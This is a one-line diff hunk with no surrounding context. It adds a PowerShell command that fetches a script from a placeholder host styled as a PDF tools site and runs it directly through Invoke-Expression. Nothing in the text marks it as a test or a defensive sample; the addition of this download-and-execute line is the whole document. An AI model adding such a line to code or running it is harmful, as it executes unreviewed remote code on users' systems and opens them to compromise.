@@ -1,0 +1,1 @@
+Invoke-WebRequest https://pdf-tools.example/x.ps1 -UseBasicParsing | Invoke-Expression
